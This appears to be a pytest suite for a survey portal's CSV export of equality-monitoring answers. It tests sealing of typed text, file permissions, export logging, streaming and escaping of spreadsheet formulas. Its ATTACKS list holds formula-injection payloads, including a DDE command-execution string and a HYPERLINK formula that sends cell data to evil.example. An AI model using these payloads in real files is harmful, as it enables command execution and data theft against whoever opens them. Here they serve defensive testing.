"""An export: every answer that may be counted, no word that was typed, nothing that a spreadsheet runs."""

from __future__ import annotations

import csv
import itertools
import json
import os
import random
import secrets
import shutil
import stat
import tracemalloc
import unicodedata
from collections import defaultdict
from datetime import date
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import event, insert, select

from portal.analysis.export import ExportError, Wanted, safe_row
from portal.analysis.models import Export
from portal.database import Database
from portal.forms import EQUALITY, FORMS
from portal.intake.models import Submission
from portal.questions import Choice, Form, Option, Text, as_written
from portal.questions.codebook import KINDS_OF_MISSING
from portal.questions.inventing import invented
from portal.sealing import KeyRing
from tests.arrivals import arrive, noise, stored, take_out
from tests.running import forked

FOLDERS = itertools.count()


def quietly(done: int, of: int) -> None:
    """Progress that nobody watches."""


def taken_out(database: Database, folder: Path, forms: tuple[Form, ...] = FORMS, **changes: Any) -> Path:
    """The folder of a new export of the first form."""
    target = folder / f"out{next(FOLDERS)}"
    take_out(
        database,
        forms,
        Wanted(**{"form": forms[0].key, "purpose": "a test", "folder": target, **changes}),
        quietly,
    )
    return target


def table(folder: Path, kind: str, form: str = "equality") -> list[dict[str, str]]:
    with (folder / f"{form}-{kind}.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


# What is in it


def test_each_submission_is_a_row_of_codes_and_a_row_of_labels(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    unrelated = noise(database)
    arrive(database, ring, language="ur", collection="repairs", received=date(2026, 11, 16))
    folder = taken_out(database, tmp_path)
    [codes], [labels] = table(folder, "codes"), table(folder, "labels")
    before = {
        "_edition": "2026-1",
        "_language": "ur",
        "_channel": "web",
        "_collection": "repairs",
        "_received": "2026-11-16",
    }
    assert codes.items() >= before.items() and labels.items() >= before.items()
    assert codes["ethnic_group"] == "asian" and labels["ethnic_group"] == "Asian or Asian British"
    assert codes["ethnic_words"] == labels["ethnic_words"] == "_sealed"
    assert codes["long_term_condition"] == "_skipped"
    assert codes["national_identity"] == codes["impairment"] == "_not_asked"
    assert unrelated["submission"]


def test_a_person_who_did_not_want_to_answer_is_told_from_one_who_was_not_asked(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    arrive(database, ring, {"equality_consent": ("no",)})
    [row] = table(taken_out(database, tmp_path), "codes")
    assert row["equality_consent"] == "no"
    assert row["age_band"] == row["ethnic_words"] == "_opted_out"


VARIANTS: list[dict[str, str]] = [
    {},
    {"sex": "registered_at_birth", "national_identity": "asked"},
    {"sex": "off", "pregnancy_maternity": "last_26_weeks", "armed_forces": "asked"},
]


def test_every_label_is_the_code_through_the_codebook(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    dice = random.Random(1)
    for number in range(30):
        form = EQUALITY.here(VARIANTS[number % 3])
        arrive(database, ring, invented(form, dice, skip=0.2), form=form)
    folder = taken_out(database, tmp_path)
    about = json.loads((folder / "equality-about.json").read_text())
    book: dict[tuple[str, str], set[str]] = defaultdict(set)
    variants: dict[str, set[str]] = defaultdict(set)
    for line in table(folder, "2026-1-codebook"):
        book[line["question"], line["code"]].add(line["label"])
        variants[line["question"]].add(line["variant"])
    seen = set()
    for codes, labels in zip(table(folder, "codes"), table(folder, "labels"), strict=True):
        for key, cell in codes.items():
            if key.startswith("_"):
                assert labels[key] == cell
                continue
            for code, label in zip(cell.split(";"), labels[key].split(";"), strict=True):
                seen.add(code)
                if code in about["kinds of missing"]:
                    assert label == code
                else:
                    assert book[key, code] == {label}
        for wording in codes["_variants"].split():
            key, _is, variant = wording.partition("=")
            assert variant in variants[key]
    assert seen >= {"_skipped", "_not_asked", "_sealed", "_opted_out", "prefer_not_to_say"}
    assert {row["_variants"] for row in table(folder, "codes")} == {
        "pregnancy_maternity=last_year sex=sex",
        "national_identity=asked pregnancy_maternity=last_year sex=registered_at_birth",
        "armed_forces=asked pregnancy_maternity=last_26_weeks",
    }
    assert about["kinds of missing"] == KINDS_OF_MISSING


@pytest.mark.parametrize(
    ("first", "last", "weeks"),
    [
        (None, None, {2, 9, 16}),
        (date(2026, 11, 9), None, {9, 16}),
        (None, date(2026, 11, 9), {2, 9}),
        (date(2026, 11, 9), date(2026, 11, 9), {9}),
        (date(2026, 11, 10), date(2026, 11, 15), set()),
    ],
)
def test_a_period_holds_its_first_and_its_last_day(
    database: Database,
    ring: KeyRing,
    tmp_path: Path,
    first: date | None,
    last: date | None,
    weeks: set[int],
) -> None:
    for day in (2, 9, 16):
        arrive(database, ring, received=date(2026, 11, day))
    folder = taken_out(database, tmp_path, first=first, last=last)
    assert {date.fromisoformat(row["_received"]).day for row in table(folder, "codes")} == weeks
    about = json.loads((folder / "equality-about.json").read_text())
    assert about["rows"] == len(weeks)
    assert about["period"] == f"{first or 'the beginning'} to {last or 'now'}"


def test_another_forms_answers_are_not_in_it(database: Database, ring: KeyRing, tmp_path: Path) -> None:
    noise(database, rows=5)
    arrive(database, ring)
    assert len(table(taken_out(database, tmp_path), "codes")) == 1


def test_an_export_of_nothing_has_its_headings(database: Database, tmp_path: Path) -> None:
    folder = taken_out(database, tmp_path)
    assert table(folder, "codes") == []
    assert (folder / "equality-codes.csv").read_text().startswith("_edition,_language,")


# What is not in it


def test_no_word_that_a_person_typed_is_in_any_file(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    dice = random.Random(2)
    form = EQUALITY.here({"national_identity": "asked"})
    words = {
        question.key: f"canary{number}" for number, question in enumerate(form.questions) if question.personal
    }
    assert len(words) >= 6
    for _person in range(60):
        answers = invented(form, dice, skip=0)
        said = {key: (words[key],) for key in words if answers.get(key)}
        row = arrive(database, ring, {**answers, **said}, form=form)
        assert not any(word in str(row.answers) for word in words.values())
    folder = taken_out(database, tmp_path)
    sealed = {key for row in table(folder, "codes") for key in words if row[key] == "_sealed"}
    assert sealed == set(words)
    for file in folder.iterdir():
        assert b"canary" not in file.read_bytes()


def test_the_order_of_rows_is_that_of_random_ids_and_not_of_arrival(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    for number in range(20):
        arrive(database, ring, collection=f"arrived-{number:02}")
    order = [row["_collection"] for row in table(taken_out(database, tmp_path), "codes")]
    assert order == [row.collection for row in stored(database)]
    assert order != sorted(order) and order != sorted(order, reverse=True)


def test_no_id_digest_or_moment_is_in_it(database: Database, ring: KeyRing, tmp_path: Path) -> None:
    row = arrive(database, ring, invitation="event-0001", collection="repairs")
    folder = taken_out(database, tmp_path)
    held = b"".join(file.read_bytes() for file in folder.iterdir())
    for secret in (row.idempotency, row.said, row.receipt, row.invitation, row.sealed, row.data_key):
        assert bytes(secret).hex().encode() not in held and bytes(secret) not in held
    assert row.id.encode() not in held
    assert set(table(folder, "codes")[0]) - {question.key for question in EQUALITY.questions} == {
        "_edition",
        "_language",
        "_channel",
        "_collection",
        "_helper",
        "_received",
        "_entered",
        "_outcome",
        "_variants",
    }


# Files


def test_only_the_owner_can_read_the_files(database: Database, ring: KeyRing, tmp_path: Path) -> None:
    arrive(database, ring)
    before = os.umask(0)
    try:
        folder = taken_out(database, tmp_path)
    finally:
        os.umask(before)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o600}


NAMES = ["equality-codes.csv", "equality-labels.csv", "equality-2026-1-codebook.csv", "equality-about.json"]


@pytest.mark.parametrize("name", NAMES)
def test_no_file_is_ever_overwritten_and_then_nothing_is_written(
    sqlite: Database, ring: KeyRing, tmp_path: Path, name: str
) -> None:
    arrive(sqlite, ring)
    (tmp_path / name).write_text("mine")
    with pytest.raises(ExportError, match=f"{name} is there already: choose an empty folder"):
        take_out(sqlite, FORMS, Wanted("equality", tmp_path, "a test"), quietly)
    assert [file.name for file in tmp_path.glob("equality-*")] == [name]
    assert (tmp_path / name).read_text() == "mine"
    with sqlite.read() as connection:
        assert connection.execute(select(Export.id)).all() == []


def test_the_paths_that_are_given_back_are_the_files(sqlite: Database, tmp_path: Path) -> None:
    paths = take_out(sqlite, FORMS, Wanted("equality", tmp_path / "out", "a test"), quietly)
    assert [path.name for path in paths] == NAMES
    assert set(paths) == set((tmp_path / "out").iterdir())


# The note of it


def test_each_export_is_noted_with_its_day_and_purpose_and_no_count(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    arrive(database, ring)
    with time_machine.travel("2026-06-30T23:30Z", tick=False):
        taken_out(database, tmp_path, purpose="Yearly report", first=date(2026, 1, 5))
    with database.read() as connection:
        [row] = connection.execute(select(*Export.__table__.columns)).mappings()
    assert row["made"] == date(2026, 7, 1)  # in London it is July
    assert type(row["made"]) is date
    assert (row["form"], row["purpose"]) == ("equality", "Yearly report")
    assert row["period"] == "2026-01-05 to now"
    assert row["by"]


def test_what_leaves_is_noted_even_when_the_disk_is_full_half_way(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    arrive(database, ring)

    def stop(done: int, of: int) -> None:
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        take_out(database, FORMS, Wanted("equality", tmp_path / "out", "a test"), stop)
    with database.read() as connection:
        assert len(connection.execute(select(Export.id)).all()) == 1


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"form": "nothing"}, "there is no form 'nothing'"),
        ({"purpose": ""}, "say in --purpose what the export is for"),
        ({"purpose": " \t"}, "say in --purpose what the export is for"),
        ({"first": date(2026, 2, 1), "last": date(2026, 1, 31)}, "--to is before --from"),
    ],
)
def test_what_makes_no_sense_is_refused_before_anything_is_written(
    sqlite: Database, tmp_path: Path, changes: dict[str, Any], sentence: str
) -> None:
    with pytest.raises(ExportError, match=sentence):
        taken_out(sqlite, tmp_path, **changes)
    assert not list(tmp_path.glob("out*"))
    with sqlite.read() as connection:
        assert connection.execute(select(Export.id)).all() == []


# Size


def many(database: Database, count: int, padding: int = 0) -> None:
    """So many rows at once, each with answers of about this many bytes."""
    rows = [
        {
            "id": secrets.token_hex(16),
            "form": "equality",
            "edition": "2026-1",
            "variants": {},
            "language": "en",
            "channel": "web",
            "received": date(2026, 11, 16),
            "answers": {"equality_consent": ["yes"], "impairment": ["x" * padding]},
            "idempotency": secrets.token_bytes(32),
            "said": secrets.token_bytes(32),
            "receipt": secrets.token_bytes(32),
        }
        for _number in range(count)
    ]
    with database.write() as connection:
        connection.execute(insert(Submission), rows)


def test_progress_is_told_in_steps_and_at_the_end(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("portal.analysis.export.STREAM", 20)
    many(database, 43)
    seen: list[tuple[int, int]] = []
    wanted = Wanted("equality", tmp_path / "out", "a test")
    take_out(database, FORMS, wanted, lambda done, of: seen.append((done, of)))
    assert seen == [(20, 43), (40, 43), (43, 43)]


def test_an_export_holds_few_rows_in_memory_however_many_there_are(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("portal.analysis.export.STREAM", 20)
    many(database, 500, padding=10_000)  # 5 MB of answers
    streamed = []

    @event.listens_for(database.engine, "before_cursor_execute")
    def look(
        connection: Any, cursor: Any, statement: str, values: Any, context: Any, executemany: bool
    ) -> None:
        if "submission.answers" in statement:
            streamed.append(context.execution_options.get("yield_per"))

    tracemalloc.start()
    try:
        folder = taken_out(database, tmp_path)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(table(folder, "codes")) == 500
    assert streamed == [20]
    assert peak < 2_000_000


def test_an_export_is_of_one_moment_though_answers_arrive_meanwhile(
    database: Database, ring: KeyRing, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("portal.analysis.export.STREAM", 2)
    for _person in range(5):
        arrive(database, ring)

    def somebody_sends(done: int, of: int) -> None:
        arrive(database, ring)
        assert of == 5

    take_out(database, FORMS, Wanted("equality", tmp_path / "out", "a test"), somebody_sends)
    assert len(table(tmp_path / "out", "codes")) == 5 < len(stored(database))


# Formulas


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula: by its first letter, in any width."""
    start = unicodedata.normalize("NFKC", cell[:1])
    return start in tuple("=+-@") or cell[:1] in tuple("\t\r\n\0")


STARTS = tuple("=+-@\t\r\n\0＝＋－＠'")


@given(st.lists(st.text(max_size=20) | st.tuples(st.sampled_from(STARTS), st.text(max_size=8)).map("".join)))
def test_no_cell_begins_as_a_formula_and_no_word_is_lost(cells: list[str]) -> None:
    for cell, safe in zip(cells, safe_row(cells), strict=True):
        assert not runs(safe)
        assert safe == (f"'{cell}" if runs(cell) else cell)


ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '"=1+1',
    'a",=1+1,"b',
    "a\r\n=1+1",
]
WORDS_FORM = Form(
    key="words",
    edition="test-1",
    address="words",
    title=as_written("Words"),
    purpose=as_written("For a test"),
    parts=(
        Choice(
            key="number",
            text=as_written("=2+2"),
            options=(
                Option("minus", as_written("-1 or less")),
                Option("plus", as_written("+1 or more"), standards={"-x": "=1"}),
            ),
        ),
        Text(key="words", text=as_written("＝words"), most=200),
    ),
)


def test_no_cell_of_any_file_is_run_whatever_was_typed_or_written(
    database: Database, ring: KeyRing, tmp_path: Path
) -> None:
    for attack in ATTACKS:
        arrive(
            database,
            ring,
            {"number": ("minus",), "words": (attack,)},
            form=WORDS_FORM.here(),
            collection=attack[:60],
            language=attack[:12],
        )
    folder = taken_out(database, tmp_path, (WORDS_FORM,))
    for file in folder.glob("*.csv"):
        with file.open(newline="", encoding="utf-8") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row]
        assert cells and not [cell for cell in cells if runs(cell)], file.name
    rows = table(folder, "codes", "words")
    assert {row["words"].removeprefix("'") for row in rows} == set(ATTACKS)
    assert {row["number"] for row in table(folder, "labels", "words")} == {"'-1 or less"}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become somebody else")
def test_an_operator_without_a_name_is_noted_by_number(sqlite: Database) -> None:
    """As in a container, where a user may have a number only."""
    with TemporaryDirectory() as place:
        file = shutil.copy(str(sqlite.url.database), place)
        for path in (place, file):
            os.chown(path, 54321, 54321)

        def as_somebody() -> None:
            for name in ("LOGNAME", "USER", "LNAME", "USERNAME"):
                os.environ.pop(name, None)
            os.setuid(54321)
            mine = Database(f"sqlite:///{file}")
            take_out(mine, FORMS, Wanted("equality", Path(place) / "out", "a test"), quietly)
            with mine.read() as connection:
                assert connection.execute(select(Export.by)).scalar_one() == "user 54321"
            mine.close()

        assert forked(as_somebody) == [0]
